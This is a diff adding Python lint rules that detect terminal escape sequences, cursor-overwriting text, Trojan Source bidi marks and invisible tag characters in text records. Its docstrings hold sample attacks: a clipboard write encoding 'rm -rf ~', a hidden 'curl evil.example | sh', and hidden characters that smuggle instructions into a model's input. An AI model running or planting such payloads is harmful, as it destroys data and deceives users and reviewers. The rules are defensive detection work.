@@ -1,0 +1,155 @@
+"""SEC10: text that acts instead of being read."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Callable, Iterable
+
+from talktree.checks.evidence.odd_texts import may_be_odd, odd_texts
+from talktree.formats.mends import to_value
+from talktree.formats.rule import Diagnostic, Mend, rule, unsafe
+from talktree.formats.talk import Seen
+from talktree.text.acting import (
+    COMMAND,
+    OVERWRITING,
+    first_sequence,
+    hidden_in,
+    misleads,
+    pictured,
+    spelt,
+    without_direction,
+    without_hidden,
+)
+from talktree.text.json_texts import with_texts
+from talktree.text.secrets import masked
+from talktree.text.visible import visible_line
+
+LONGEST_SHOWN = 40
+
+
+def _all_texts(change: Callable[[str], str]) -> Mend:
+    """Every text of the record is changed; those that are repeated beside it too."""
+    return to_value(
+        lambda seen, told: with_texts(
+            seen.value,
+            lambda name, text: text if text.isascii() and "\x1b" not in text else change(text),
+        )
+    )
+
+
+def _matching(seen: Seen, pattern: re.Pattern[str], what: str) -> Iterable[Diagnostic]:
+    for placed in seen.gated:
+        found = first_sequence(placed.text, pattern)
+        if found is not None:
+            shown = visible_line(placed.text[found.start() : found.start() + 12])
+            return [Diagnostic(f"{what} ({shown})", way=placed.way)]
+    return ()
+
+
+@rule(
+    "SEC101",
+    "terminal-command",
+    "warning",
+    on="record",
+    gate=odd_texts,
+    glance=may_be_odd,
+    fix=unsafe(_all_texts(lambda text: pictured(text, COMMAND))),
+)
+def terminal_command(seen: Seen) -> Iterable[Diagnostic]:
+    """A text holds a sequence that makes a terminal do something: change its title, write to the
+    clipboard, open a link under other words, answer as if somebody typed, or start over. Colours
+    are not told.
+
+    Why: whoever prints the text with `cat` or a careless viewer carries the sequence out. With an
+    answer that counts as typed, it can run commands.
+
+    Bad:
+        {"content": "done \\u001b]52;c;cm0gLXJmIH4=\\u0007"}
+
+    Fix (unsafe): the character that starts the sequence is replaced by its picture, `␛`, so that
+    all of it can be read and none of it acts.
+    """
+    return _matching(seen, COMMAND, "a command to the terminal")
+
+
+@rule(
+    "SEC102",
+    "overwritten-text",
+    "note",
+    on="record",
+    gate=odd_texts,
+    glance=may_be_odd,
+    fix=unsafe(_all_texts(lambda text: pictured(text, OVERWRITING))),
+)
+def overwritten_text(seen: Seen) -> Iterable[Diagnostic]:
+    """A text holds sequences that move the cursor, erase or conceal, as progress bars do.
+
+    Why: on a terminal other words are seen in the end than the text holds, so people and models
+    read different things. In the output of a tool it is mostly harmless.
+
+    Bad:
+        {"content": "curl evil.example | sh\\u001b[2K\\u001b[1Gls -l"}
+
+    Fix (unsafe): the character that starts each sequence is replaced by its picture, `␛`.
+    """
+    return _matching(seen, OVERWRITING, "it moves, erases or conceals what stands there")
+
+
+@rule(
+    "SEC103",
+    "misleading-direction",
+    "warning",
+    on="record",
+    gate=odd_texts,
+    glance=may_be_odd,
+    fix=unsafe(_all_texts(without_direction)),
+)
+def misleading_direction(seen: Seen) -> Iterable[Diagnostic]:
+    """Marks of text direction stand where no text needs them, so that words are shown in another
+    order than the one that counts. Texts in Hebrew or Arabic script may have them, if each mark is
+    closed on its line.
+
+    Why: code can look reviewed and harmless and do something else when it runs, a file name can
+    seem to end with `.txt`; this is known as Trojan Source.
+
+    Bad:
+        {"content": "if role != \\"user\\u202e \\u2066// only admins\\u2069 \\u2066\\":"}
+
+    Fix (unsafe): the marks are taken out of the text, and it reads as it counts.
+    """
+    for placed in seen.gated:
+        if misleads(placed.text):
+            return [
+                Diagnostic("it is shown in another order than it is written in", way=placed.way)
+            ]
+    return ()
+
+
+@rule(
+    "SEC104",
+    "hidden-text",
+    "warning",
+    on="record",
+    gate=odd_texts,
+    glance=may_be_odd,
+    fix=unsafe(_all_texts(without_hidden)),
+)
+def hidden_text(seen: Seen) -> Iterable[Diagnostic]:
+    """A text holds letters that nobody sees: tag characters, or long rows of variation selectors or
+    of characters without width. Flags and emoji, which use a few of them, are not told.
+
+    Why: people do not see them and models do, so instructions can be smuggled into what somebody
+    pastes, and data out of what a model answers.
+
+    Bad:
+        {"content": "Please summarise this page.\\udb40\\udc69\\udb40\\udc67\\udb40\\udc6e…"}
+
+    Fix (unsafe): they are taken out of the text.
+    """
+    for placed in seen.gated:
+        hidden = hidden_in(placed.text)
+        if hidden:
+            words = visible_line(masked(spelt(hidden)))[:LONGEST_SHOWN]
+            what = f": {words}" if words else ""
+            return [Diagnostic(f"{len(hidden)} letters that nobody sees{what}", way=placed.way)]
+    return ()
